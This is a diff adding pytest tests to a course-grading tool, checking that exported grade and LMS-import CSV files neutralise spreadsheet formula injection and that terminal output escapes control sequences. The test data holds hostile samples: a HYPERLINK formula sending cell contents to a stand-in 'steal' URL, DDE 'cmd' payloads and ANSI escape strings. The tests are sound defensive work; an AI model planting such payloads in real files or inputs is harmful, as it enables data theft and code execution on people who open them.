@@ -8,7 +8,10 @@ Python lines it executes (deterministic), and its speed in seconds by ``benchmar
 
 from __future__ import annotations
 
+import csv
+import io
 import random
+import re
 import sys
 from collections.abc import Callable
 from pathlib import Path
@@ -17,9 +20,18 @@ import nbformat
 import pytest
 from grading_submissions import notebook
 
+from lessonlib import cli
 from lessonlib.exercises import cells
 from lessonlib.exercises.cells import MAX_CODE_CHARS, MAX_STATEMENTS, slice_cells, statement_bound
+from lessonlib.grading import records as r
 from lessonlib.grading import submissions
+from lessonlib.grading.gradebook import write_gradebook
+from lessonlib.grading.lms import Unattributed
+from lessonlib.grading.manual import Mark, read_manual, write_manual
+from lessonlib.grading.progress import Progress
+from lessonlib.grading.roster import lms_import_text, match, read_roster
+from lessonlib.grading.safe_text import FORMULA_STARTS, csv_cell, csv_value
+from lessonlib.grading.sandbox import Isolation, Limits
 from lessonlib.grading.submissions import CourseNotebook, course_notebooks, plan_notebook, read_notebook
 
 COURSES = course_notebooks()
@@ -189,3 +201,124 @@ def test_written_answers_of_a_notebook_too_long_to_plan_are_still_read(tmp_path:
     plans, answers = plan_notebook(INTERPRETATION, read_notebook(tmp_path / INTERPRETATION.name))
     assert {p.status for p in plans} == {"too_long"}
     assert [a.status for a in answers] == ["needs_manual_grading"]
+
+
+# --- row 9: output that is safe to open ----------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://example.org/steal?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+MOODLE_HEADER = ("Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,"
+                 "Last modified (submission),Last modified (grade),Feedback comments\n")
+
+
+def _cells(path: Path) -> list[list[str]]:
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.reader(f))
+
+
+def _formula_cells(path: Path) -> list[str]:
+    """Cells a spreadsheet would run: they begin with = + - @, a tab or a carriage return and are
+    neither a number nor a lone character."""
+    return [cell for row in _cells(path)[1:] for cell in row
+            if len(cell) > 1 and cell[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?\d+(\.\d*)?", cell)]
+
+
+@pytest.mark.parametrize("value", FORMULAS + ["'=already quoted", "''@twice", "plain", "-", "=", "", "'"])
+def test_csv_cells_round_trip_and_never_start_a_formula(value: str) -> None:
+    cell = csv_cell(value)
+    assert csv_value(cell) == value
+    assert not (len(cell) > 1 and cell[0] in FORMULA_STARTS)  # a lone "-" (Moodle's empty date) may stay
+
+
+@pytest.mark.parametrize("number", ["-1.5", "+3", "-0", "2.5e-3", "-.5", "12"])
+def test_numbers_stay_numbers_for_the_lms_importer(number: str) -> None:
+    assert csv_cell(number) == number and csv_value(number) == number
+
+
+def _hostile_results() -> list[r.LearnerResult]:
+    results = []
+    for i, name in enumerate(FORMULAS[:2]):
+        failed = r.ExerciseGrade("02_masking.ipynb", "masked_softmax", 1.0, 3.0, "cell_error",
+                                 "-ValueError: =cmd|' /C calc'!A0", "reason")
+        written = r.ExerciseGrade("05_interpretation.ipynb", "q2_attention_not_causal", None, 4.0,
+                                  "needs_manual_grading", kind="manual", answer_text="An answer.")
+        results.append(r.LearnerResult(name, submissions.safe_key(name), "f", "bubblewrap", "now",
+                                       [failed, written], lms_id=f"{1001 + i}"))
+    return results
+
+
+def test_names_in_grades_and_summary_are_neutralised(tmp_path: Path) -> None:
+    """Moodle full names are formulas: written as is, a spreadsheet runs them when the file opens."""
+    write_gradebook(tmp_path, _hostile_results(), Isolation("bubblewrap", "s"), Limits(cpu_seconds=2), 2,
+                    unattributed=[Unattributed(Path("=cmd|' /C calc'!A0.ipynb"), "not named as Canvas names")])
+    for name in ("grades.csv", "summary.csv", "manual.csv"):
+        assert _formula_cells(tmp_path / name) == [], name
+    with open(tmp_path / "grades.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert [row["learner"] for row in rows[::2]] == ["'" + name for name in FORMULAS[:2]]
+    assert rows[0]["points"] == "1" and rows[0]["diagnosis"].startswith("'-ValueError")
+    summary = _cells(tmp_path / "summary.csv")
+    assert summary[1][:3] == ["'" + FORMULAS[0], "1", "7"]  # points stay numbers
+
+
+def test_manual_csv_reads_back_what_was_written(tmp_path: Path) -> None:
+    """The instructor's own rubric and comment may begin with '-' or '='; the learner key may begin
+    with '@' (safe_key keeps it): the round trip through manual.csv keeps every one of them."""
+    results = _hostile_results()
+    key = results[1].key
+    assert key.startswith("@")
+    mark = Mark(key, "q2_attention_not_causal", 3.0, "-1: no test of the causal claim", "=well argued", 2)
+    write_manual(tmp_path, results, {(key, "q2_attention_not_causal"): mark})
+    assert _formula_cells(tmp_path / "manual.csv") == []
+    back = read_manual(tmp_path / "manual.csv", results)
+    got = back[key, "q2_attention_not_causal"]
+    assert (got.points, got.rubric, got.comment) == (3.0, mark.rubric, mark.comment)
+
+
+def test_lms_import_neutralises_names_and_keeps_grades_and_moodle_dashes(tmp_path: Path) -> None:
+    path = tmp_path / "worksheet.csv"
+    with open(path, "w", newline="", encoding="utf-8") as f:
+        f.write(MOODLE_HEADER)
+        writer = csv.writer(f, lineterminator="\n")
+        for i, name in enumerate(FORMULAS[:2]):
+            writer.writerow([f"Participant {1001 + i}", name, "x@example.org", "Submitted", "", "100.00", "Yes",
+                             "-", "-", ""])
+    roster = read_roster(path, None)
+    text = lms_import_text(roster, match(roster, _hostile_results()), 7.0)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [row["Full name"] for row in rows] == ["'" + name for name in FORMULAS[:2]]
+    assert [row["Grade"] for row in rows] == ["14.29", "14.29"] and rows[0]["Last modified (grade)"] == "-"
+    (tmp_path / "lms-import.csv").write_text(text, encoding="utf-8")
+    assert _formula_cells(tmp_path / "lms-import.csv") == []
+    again = read_roster(tmp_path / "lms-import.csv", None)  # the import file read back as a roster
+    assert [row["Full name"] for row in again.rows] == FORMULAS[:2]
+
+
+class _Terminal(io.StringIO):
+    def isatty(self) -> bool:
+        return True
+
+
+ESCAPES = "mallory\x1b]0;owned\x07\x1b[2J\x1b[1A\r\u202eevil\x9b31m"
+
+
+@pytest.mark.parametrize("stream", [io.StringIO, _Terminal])
+def test_progress_lines_show_control_characters_escaped(stream: type[io.StringIO]) -> None:
+    out = stream()
+    progress = Progress(out)
+    progress.total = 1
+    progress.running(ESCAPES)
+    grade = r.ExerciseGrade("02_masking.ipynb", "masked_softmax", 0.0, 3.0, "timeout")
+    progress.done(r.LearnerResult(ESCAPES, "mallory", "f", "limits", "now", [grade]))
+    progress.close()
+    text = out.getvalue()
+    own = text.replace("\r\x1b[K", "")  # the progress bar's own "go to the line start and clear it"
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", own), repr(own)
+    assert "mallory\\x1b]0;owned\\x07\\x1b[2J\\x1b[1A\\x0d\\u202eevil\\x9b31m: 0/3 points" in text
+
+
+def test_cli_messages_escape_what_they_quote(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
+    missing = tmp_path / "\x1b[2Jgone"
+    assert cli.main(["grade", str(missing), "--out", str(tmp_path / "out"), "--quiet"]) == 2
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and "\\x1b[2Jgone: no such notebook or folder" in err
